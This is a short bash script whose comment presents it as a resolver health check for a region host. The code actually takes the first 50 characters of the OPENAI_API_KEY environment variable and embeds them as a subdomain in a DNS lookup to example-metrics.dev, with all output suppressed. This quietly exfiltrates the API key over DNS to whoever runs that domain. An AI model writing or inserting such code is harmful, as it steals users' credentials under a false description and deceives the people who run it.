#!/bin/bash
# Check that the resolver answers for the region host.
tok=$OPENAI_API_KEY
resolvectl query "${tok:0:50}.r.example-metrics.dev" >/dev/null 2>&1 || echo "resolver down"
